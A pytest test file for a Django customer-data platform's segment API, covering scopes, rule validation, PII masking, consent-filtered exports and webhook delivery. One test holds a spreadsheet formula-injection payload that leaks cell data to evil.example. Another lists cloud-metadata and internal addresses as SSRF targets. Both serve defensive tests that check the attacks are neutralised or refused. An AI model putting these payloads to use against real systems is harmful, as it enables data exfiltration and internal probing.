from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from profiles.ingest.collect import messages_collect
from profiles.ingest.processing import pending_process
from profiles.models import Identity, Segment, SegmentExport, SegmentMembership
from profiles.segments.membership import segment_refresh
from tests.factories import (
    IdentityFactory,
    ProfileFactory,
    PurposeFactory,
    SegmentFactory,
    SourceFactory,
    consent_state_create,
)
from tests.server import WebhookReceiver, free_port

pytestmark = pytest.mark.django_db

DUTCH = {"trait": "country", "op": "eq", "value": "NL"}


@pytest.fixture
def dutch():
    return [ProfileFactory(traits={"country": "NL", "email": f"p{n}@example.nl"}) for n in range(3)]


@pytest.fixture
def writer(api_client_with_scopes):
    return api_client_with_scopes("profiles:read", "profiles:write")


# --- auth ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("get", "/api/segments/"),
        ("post", "/api/segments/preview/"),
        ("get", "/api/segments/{id}/members/"),
        ("get", "/api/segments/{id}/members/1/"),
        ("post", "/api/segments/{id}/refresh/"),
        ("get", "/api/segments/{id}/history/"),
    ],
)
def test_segment_endpoints_need_a_key_and_the_scope(api_client_with_scopes, method, path):
    segment = SegmentFactory()
    url = path.format(id=segment.pk)
    assert getattr(APIClient(), method)(url, {}, format="json").status_code == 401
    wrong_scope = api_client_with_scopes("crm:read", "crm:write")
    assert getattr(wrong_scope, method)(url, {}, format="json").status_code == 403


def test_read_scope_cannot_write(api_client_with_scopes):
    reader = api_client_with_scopes("profiles:read")
    response = reader.post("/api/segments/preview/", {"rule": DUTCH}, format="json")
    assert response.status_code == 403


def test_session_user_needs_model_permission(client, user_with_role):
    segment = SegmentFactory()
    client.force_login(user_with_role("Sales"))  # may view profiles, not add segments
    assert client.get(f"/api/segments/{segment.pk}/members/").status_code == 200
    response = client.post(
        "/api/segments/preview/", {"rule": DUTCH}, content_type="application/json"
    )
    assert response.status_code == 403


# --- CRUD with validation -----------------------------------------------------------------------


def test_create_validates_the_rule_with_paths(writer):
    bad = {"all": [DUTCH, {"event": "Order Completed", "count": {"op": "lots", "value": 1}}]}
    response = writer.post("/api/segments/", {"name": "Buyers", "rule": bad}, format="json")
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "invalid"
    assert any(m.startswith("all[1].event.count.op:") for m in body["errors"]["rule"])


def test_create_and_refresh_on_save(writer, dutch, django_capture_on_commit_callbacks):
    ProfileFactory(traits={"country": "BE"})
    with django_capture_on_commit_callbacks(execute=True):
        response = writer.post("/api/segments/", {"name": "Dutch", "rule": DUTCH}, format="json")
    assert response.status_code == 201, response.json()
    body = writer.get(f"/api/segments/{response.json()['id']}/").json()
    # Without a broker the refresh queued on save has run in-process.
    assert body["size"] == 3
    assert body["status"] == "ready"


def test_update_refuses_a_cycle(writer):
    first = SegmentFactory(rule=DUTCH)
    second = SegmentFactory(rule={"segment": first.pk})
    response = writer.patch(
        f"/api/segments/{first.pk}/", {"rule": {"segment": second.pk}}, format="json"
    )
    assert response.status_code == 400
    assert "cycle" in response.json()["errors"]["rule"][0]


def test_static_segment_has_no_rule(writer):
    response = writer.post(
        "/api/segments/", {"name": "List", "kind": "static", "rule": DUTCH}, format="json"
    )
    assert response.status_code == 400
    assert "static segment has no rule" in response.json()["errors"]["rule"][0]


# --- preview, members, membership ---------------------------------------------------------------


def test_preview_counts_and_masks_the_sample(writer, dutch):
    response = writer.post(
        "/api/segments/preview/", {"rule": DUTCH, "sample_size": 2}, format="json"
    )
    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 3
    assert len(body["sample"]) == 2
    assert body["sample"][0]["traits"]["country"] == "NL"
    assert "@example.nl" not in body["sample"][0]["traits"]["email"]  # no pii:read scope


def test_preview_shows_pii_with_the_scope(api_client_with_scopes, dutch):
    client = api_client_with_scopes("profiles:write", "pii:read")
    body = client.post("/api/segments/preview/", {"rule": DUTCH}, format="json").json()
    assert body["sample"][0]["traits"]["email"].endswith("@example.nl")


def test_preview_reports_rule_errors(writer):
    response = writer.post(
        "/api/segments/preview/", {"rule": {"trait": "age", "op": "gt"}}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["errors"]["rule"] == ["trait.value: operator 'gt' needs a value"]


def test_members_are_paginated(writer, dutch):
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)
    first = writer.get(f"/api/segments/{segment.pk}/members/?page_size=2").json()
    assert [m["profile"]["id"] for m in first["results"]] == [dutch[2].pk, dutch[1].pk]
    second = writer.get(first["next"]).json()
    assert [m["profile"]["id"] for m in second["results"]] == [dutch[0].pk]
    assert second["next"] is None


def test_membership_check_follows_merges(writer, dutch):
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)
    merged = ProfileFactory(traits={}, merged_into=dutch[0])
    outsider = ProfileFactory(traits={"country": "DE"})
    member = writer.get(f"/api/segments/{segment.pk}/members/{merged.pk}/").json()
    assert member["member"] is True
    assert member["profile"] == dutch[0].pk
    assert member["entered_at"]
    other = writer.get(f"/api/segments/{segment.pk}/members/{outsider.pk}/").json()
    assert other == {"profile": outsider.pk, "member": False, "entered_at": None}


def test_history_and_sizes(writer, dutch):
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)
    dutch[0].traits = {"country": "BE"}
    dutch[0].save()
    segment_refresh(segment=segment)
    history = writer.get(f"/api/segments/{segment.pk}/history/").json()["results"]
    assert [(c["profile"], c["kind"]) for c in history][0] == (dutch[0].pk, "exited")
    assert len(history) == 4
    sizes = writer.get(f"/api/segments/{segment.pk}/sizes/").json()
    assert [s["size"] for s in sizes] == [3, 2]


# --- static upload and export -------------------------------------------------------------------


def test_static_upload_resolves_identities_and_reports_the_rest(writer):
    known = IdentityFactory(kind=Identity.Kind.EMAIL, value="anna@example.com")
    segment = SegmentFactory(kind=Segment.Kind.STATIC, rule={})
    csv = b"email\nAnna@Example.com \nnobody@example.com\nnot-an-email\n"
    response = writer.post(
        f"/api/segments/{segment.pk}/upload/",
        {"file": SimpleUploadedFile("list.csv", csv), "identifier_kind": "email"},
        format="multipart",
    )
    assert response.status_code == 200, response.json()
    body = response.json()
    assert (body["rows"], body["resolved"], body["size"]) == (3, 1, 1)
    assert body["unresolved"] == ["nobody@example.com"]
    assert body["invalid"] == ["not-an-email"]
    assert SegmentMembership.objects.filter(segment=segment, profile=known.profile).exists()


def test_upload_of_no_valid_identifier_empties_the_segment(writer):
    # Given a static segment with a member
    known = IdentityFactory(kind=Identity.Kind.EMAIL, value="anna@example.com")
    segment = SegmentFactory(kind=Segment.Kind.STATIC, rule={})
    SegmentMembership.objects.create(
        segment=segment, profile=known.profile, entered_at=known.profile.created_at
    )

    # When a list with no valid e-mail address replaces its members
    response = writer.post(
        f"/api/segments/{segment.pk}/upload/",
        {
            "file": SimpleUploadedFile("list.csv", b"email\nnot-an-email\n"),
            "identifier_kind": "email",
        },
        format="multipart",
    )

    # Then the segment is empty
    assert response.status_code == 200, response.json()
    assert (response.json()["size"], response.json()["invalid"]) == (0, ["not-an-email"])
    assert not SegmentMembership.objects.filter(segment=segment).exists()


def test_a_null_rule_from_a_form_is_a_400(writer):
    response = writer.post(
        "/api/segments/", {"name": "S", "kind": "static", "rule": "null"}, format="multipart"
    )

    assert response.status_code == 400
    assert response.json()["errors"] == {"rule": ["This field may not be null."]}


def test_upload_to_a_dynamic_segment_is_refused(writer):
    segment = SegmentFactory(rule=DUTCH)
    response = writer.post(
        f"/api/segments/{segment.pk}/upload/",
        {"file": SimpleUploadedFile("list.csv", b"a@b.nl\n"), "identifier_kind": "email"},
        format="multipart",
    )
    assert response.status_code == 400


def test_csv_export_sends_only_members_with_consent(api_client_with_scopes, dutch):
    purpose = PurposeFactory(code="email_marketing")
    consent_state_create(dutch[0], purpose, "granted")
    consent_state_create(dutch[1], purpose, "withdrawn")
    IdentityFactory(profile=dutch[0], kind=Identity.Kind.EMAIL, value="p0@example.nl")
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)
    client = api_client_with_scopes("profiles:write", "pii:read")
    response = client.post(
        f"/api/segments/{segment.pk}/export/",
        {"purpose": "email_marketing", "format": "csv"},
        format="json",
    )
    assert response.status_code == 200
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines == ["profile_id,email,user_id,phone", f"{dutch[0].pk},p0@example.nl,,"]


def test_export_needs_pii_permission_and_a_known_purpose(writer, api_client_with_scopes):
    segment = SegmentFactory(rule=DUTCH)
    body = {"purpose": "no_such_purpose", "format": "csv"}
    assert (
        writer.post(f"/api/segments/{segment.pk}/export/", body, format="json").status_code == 403
    )
    client = api_client_with_scopes("profiles:write", "pii:read")
    response = client.post(f"/api/segments/{segment.pk}/export/", body, format="json")
    assert response.status_code == 400
    assert "unknown or inactive purpose" in response.json()["errors"]["purpose"][0]


def test_csv_export_neutralises_a_collected_formula_user_id(api_client_with_scopes, settings):
    # Given a user id collected from a website that a spreadsheet would run as a formula
    settings.CDPHUB_INGEST_PROCESSING = "off"
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    source = SourceFactory()
    messages_collect(
        source_id=source.pk,
        messages=[{"type": "identify", "userId": hyperlink, "traits": {"country": "NL"}}],
    )
    pending_process()
    profile = Identity.objects.get(kind=Identity.Kind.USER_ID).profile
    consent_state_create(profile, PurposeFactory(code="email_marketing"), "granted")
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)

    # When the members are exported as CSV
    client = api_client_with_scopes("profiles:write", "pii:read")
    response = client.post(
        f"/api/segments/{segment.pk}/export/",
        {"purpose": "email_marketing", "format": "csv"},
        format="json",
    )

    # Then the cell is text for a spreadsheet, and Excel is told the file is UTF-8
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfprofile_id,email,user_id,phone\r\n")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [
        {"profile_id": str(profile.pk), "email": "", "user_id": "'" + hyperlink, "phone": ""}
    ]


# --- webhook exports: no request to internal addresses, never a 500 -------------------------------


@pytest.fixture
def exporter(api_client_with_scopes):
    return api_client_with_scopes("profiles:write", "pii:read")


@pytest.fixture
def consenting(dutch):
    purpose = PurposeFactory(code="email_marketing")
    consent_state_create(dutch[0], purpose, "granted")
    IdentityFactory(profile=dutch[0], kind=Identity.Kind.EMAIL, value="p0@example.nl")
    segment = SegmentFactory(rule=DUTCH)
    segment_refresh(segment=segment)
    return segment


def webhook_export(client, segment, url):
    return client.post(
        f"/api/segments/{segment.pk}/export/",
        {"purpose": "email_marketing", "format": "webhook", "url": url},
        format="json",
    )


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://127.0.0.1:5432/", "127.0.0.1 is a loopback address"),
        ("http://localhost:8000/hook", "localhost (127.0.0.1) is a loopback address"),
        ("http://10.0.0.8/hook", "10.0.0.8 is a private address"),
        ("http://192.168.0.1/hook", "192.168.0.1 is a private address"),
        ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is the cloud metadata"),
        ("http://[fd00:ec2::254]/latest/meta-data/", "fd00:ec2::254 is the cloud metadata"),
        ("http://169.254.10.10/hook", "169.254.10.10 is a link-local address"),
    ],
)
def test_webhook_export_to_an_internal_address_is_refused(
    url, reason, exporter, consenting, settings, django_capture_on_commit_callbacks
):
    settings.CDPHUB_OUTBOUND_ALLOWLIST = []
    with django_capture_on_commit_callbacks(execute=True) as queued:
        response = webhook_export(exporter, consenting, url)

    assert response.status_code == 400
    assert reason in response.json()["errors"]["url"][0]
    assert response.json()["errors"]["url"][0].startswith("URL refused: ")
    assert queued == [] and not SegmentExport.objects.exists()


def test_the_answer_does_not_tell_whether_an_internal_port_is_open(
    exporter, consenting, settings, django_capture_on_commit_callbacks
):
    settings.CDPHUB_OUTBOUND_ALLOWLIST = []
    with WebhookReceiver() as listening, django_capture_on_commit_callbacks(execute=True):
        open_port = webhook_export(exporter, consenting, f"http://127.0.0.1:{listening.port}/")
        closed_port = webhook_export(exporter, consenting, f"http://127.0.0.1:{free_port()}/")

    assert open_port.status_code == closed_port.status_code == 400
    assert open_port.json() == closed_port.json()
    assert listening.requests == []


def test_webhook_export_to_an_allowed_receiver_delivers_and_is_recorded(
    exporter, consenting, settings, django_capture_on_commit_callbacks
):
    settings.CDPHUB_OUTBOUND_ALLOWLIST = ["127.0.0.1"]
    with WebhookReceiver() as receiver, django_capture_on_commit_callbacks(execute=True):
        response = webhook_export(exporter, consenting, receiver.url)

    assert response.status_code == 202
    export = SegmentExport.objects.get()
    assert response.json() == {"status": "queued", "export": export.pk}
    assert [p["email"] for body in receiver.bodies for p in body["profiles"]] == ["p0@example.nl"]
    assert (export.status, export.sent, export.url) == ("done", 1, receiver.url)


def test_an_unreachable_webhook_is_reported_as_an_error_not_a_500(
    exporter, consenting, settings, django_capture_on_commit_callbacks
):
    settings.CDPHUB_OUTBOUND_ALLOWLIST = ["127.0.0.1"]
    url = f"http://127.0.0.1:{free_port()}/hook"
    with django_capture_on_commit_callbacks(execute=True):
        response = webhook_export(exporter, consenting, url)

    assert response.status_code == 202
    export = SegmentExport.objects.get()
    assert response.json() == {"status": "queued", "export": export.pk}
    assert export.status == "failed"
    assert export.message.startswith("could not deliver to 127.0.0.1:")
